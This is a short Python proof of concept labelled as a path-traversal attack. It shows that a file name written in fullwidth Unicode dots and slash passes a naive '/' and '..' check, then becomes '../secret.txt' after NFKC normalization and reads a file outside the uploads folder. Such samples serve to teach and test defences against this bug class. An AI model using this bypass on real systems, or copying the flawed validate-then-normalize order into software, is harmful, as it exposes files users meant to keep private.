# attack: path-traversal
import os, unicodedata
name = "\uff0e\uff0e\uff0fsecret.txt"
assert "/" not in name and ".." not in name
print(open(os.path.join("uploads", unicodedata.normalize("NFKC", name))).read())
